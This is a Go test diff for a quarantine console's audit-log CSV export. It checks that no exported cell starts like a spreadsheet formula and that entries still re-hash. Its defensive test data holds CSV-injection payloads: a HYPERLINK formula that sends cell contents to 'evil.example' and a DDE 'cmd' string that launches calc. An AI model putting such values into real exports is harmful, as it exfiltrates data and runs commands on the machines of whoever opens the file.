@@ -15,6 +15,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
 	"github.com/quarantine-console/quarantine"
@@ -91,7 +92,7 @@ func TestExport(t *testing.T) {
 		for _, rec := range records[1 : len(records)-1] {
 			m := map[string]string{}
 			for i, name := range header {
-				m[name] = rec[i]
+				m[name] = fromCell(rec[i])
 			}
 			e := entryFromRecord(t, m)
 			require.Equal(t, e.Hash, audit.HashOf(&e), "seq %d re-hashes from the export alone", e.Seq)
@@ -141,6 +142,56 @@ func TestExport(t *testing.T) {
 		err := audit.ExportCSV(b.ctx, b.db.Pool, audit.Filter{Outcome: "maybe"}, headOf(t, b), io.Discard)
 		require.Equal(t, quarantine.EINVALID, quarantine.ErrorCode(err), "%v", err)
 	})
+}
+
+// fromCell is a CSV export's cell as docs/access.md says to read it back:
+// one leading "'" taken off, when there is one.
+func fromCell(cell string) string { return strings.TrimPrefix(cell, "'") }
+
+// TestExportCSVCellsNeverFormulas: producers (message and operation ids),
+// people (reasons, user agents) and identity providers (emails) choose text
+// that ends up in the audit log. No cell of a CSV export starts the way a
+// spreadsheet reads as a formula (=, +, -, @, tab, carriage return), and
+// every entry still re-hashes from the export once each cell's leading "'"
+// is taken off.
+func TestExportCSVCellsNeverFormulas(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	hostile := event("odd.formula")
+	hostile.Actor.Email = "'quoted@example.com"
+	hostile.Reason = `=HYPERLINK("https://evil.example/?"&A1,"open")`
+	hostile.MessageID = "+1+cmd|' /C calc'!A0"
+	hostile.OperationID = "-2+3"
+	hostile.ObjectID, hostile.RequestID = "\tx", "\r=1"
+	hostile.UserAgent = "@SUM(A1)"
+	hostile.After = -5
+	plain := event("odd.plain")
+	plain.Reason = "'already quoted"
+	appendAll(t, b, hostile, plain)
+	requireIntact(t, b, 2)
+
+	var out bytes.Buffer
+	require.NoError(t, audit.ExportCSV(b.ctx, b.db.Pool, audit.Filter{}, headOf(t, b), &out))
+	r := csv.NewReader(&out)
+	r.FieldsPerRecord = -1
+	records, err := r.ReadAll()
+	require.NoError(t, err)
+	require.Len(t, records, 4, "header, two entries, trailer")
+	header := records[0]
+	for _, rec := range records[1:3] {
+		m := map[string]string{}
+		for i, name := range header {
+			if cell := rec[i]; cell != "" {
+				assert.NotContains(t, "=+-@\t\r", cell[:1], "column %s: %q starts like a formula", name, cell)
+			}
+			m[name] = fromCell(rec[i])
+		}
+		e := entryFromRecord(t, m)
+		require.Equal(t, e.Hash, audit.HashOf(&e), "seq %d re-hashes from the export", e.Seq)
+	}
+	assert.Equal(t, hostile.Reason, fromCell(records[1][13]))
+	assert.Equal(t, "'quoted@example.com", fromCell(records[1][4]), "a value that starts with ' keeps it")
+	assert.Equal(t, "'already quoted", fromCell(records[2][13]))
 }
 
 // headOf is the chain's head, unsigned, as exports without a signer end.
